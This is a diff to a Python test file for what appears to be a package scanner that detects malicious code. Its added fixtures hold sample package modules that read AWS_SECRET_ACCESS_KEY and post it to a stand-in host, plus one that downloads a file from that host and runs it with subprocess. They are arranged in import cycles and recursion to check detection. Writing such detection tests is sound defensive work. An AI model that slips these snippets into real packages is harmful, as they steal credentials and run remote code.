@@ -127,6 +127,37 @@ CASES: dict[str, dict[str, str]] = {
         "acme/setup_hub.py": "from .middle import Client\n\nclient = Client()\n",
     },
 }
+_READS = "def read():\n    return os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
+_SENDS = "def send(text='x'):\n    requests.post('https://models.acme-cdn.example', data=text)\n"
+BIG = "TABLE = [\n" + "    'an honest line of data',\n" * 20_000 + "]\n"
+"""Makes a package too large for what only holds small ones."""
+ROUND: dict[str, dict[str, str]] = {
+    "parts that meet in a module of a circle": {
+        "acme/hub.py": f"import os, requests\nfrom . import other\n\n\n{_READS}\n\n{_SENDS}\n\nread(); send()\n",
+        "acme/other.py": "from . import hub\n",
+    },
+    "parts that meet in functions that call each other": {
+        "acme/hub.py": (
+            f"import os, requests\n\n\n{_READS}\n\n{_SENDS}\n\ndef go(n=1):\n    read()\n    again(n)\n\n\n"
+            "def again(n):\n    send()\n    if n:\n        go(n - 1)\n\n\ngo()\n"
+        ),
+    },
+    "a function that calls itself": {
+        "acme/hub.py": (
+            "import os, requests\n\n\ndef go(n=1):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n"
+            "    requests.post('https://models.acme-cdn.example', data={'n': n})\n    go(n - bool(key))\n\n\ngo()\n"
+        ),
+    },
+    "a file that is fetched and run, in a circle": {
+        "acme/hub.py": (
+            "import subprocess, requests\nfrom . import other\n\n\ndef fetch():\n"
+            "    got = requests.get('https://models.acme-cdn.example/x')\n    with open('x', 'wb') as file:\n"
+            "        file.write(got.content)\n\n\ndef run():\n    subprocess.run('x', shell=True)\n\n\nfetch(); run()\n"
+        ),
+        "acme/other.py": "from . import hub\n",
+    },
+}
+"""Parts that only meet where code leads back to itself, so that each of its scopes reaches all that all do."""
 OLD = {"quiet": (BASE, scan(BASE)), "busy": (BUSY, scan(BUSY))}
 
 
@@ -140,6 +171,33 @@ def test_an_attack_through_modules_is_held(name, base):
 @pytest.mark.parametrize("name", CASES)
 def test_it_is_held_without_a_release_before(name):
     assert held(scan({"acme/__init__.py": "", **CASES[name]}))
+
+
+@pytest.mark.parametrize("base", OLD)
+@pytest.mark.parametrize("name", ROUND)
+def test_parts_that_meet_in_a_circle_are_held(name, base):
+    files, old = OLD[base]
+    assert held(scan(changed(ROUND[name], files)), old)
+
+
+@pytest.mark.parametrize("name", ROUND)
+def test_they_are_held_without_a_release_before(name):
+    assert held(scan({"acme/__init__.py": "", **ROUND[name], "acme/data.py": BIG}))
+
+
+def test_parts_of_a_circle_that_meet_nowhere_else_are_tied_once():
+    files = {
+        "acme/__init__.py": "",
+        "acme/one.py": "import os\nfrom . import two\n\nKEY = os.environ.get('AWS_SECRET_ACCESS_KEY')\n",
+        "acme/two.py": "from . import three\n",
+        "acme/three.py": "import requests\nfrom . import one\n\nrequests.get('https://models.acme-cdn.example')\n",
+    }
+    facts = scan(files)
+    kinds = [
+        (facts.capabilities[tie.first].kind, facts.capabilities[tie.second].kind, tie.reach)
+        for tie in facts.ties
+    ]
+    assert kinds == [(v.CRED, v.NET, "import")]
 
 
 HONEST: dict[str, dict[str, str]] = {
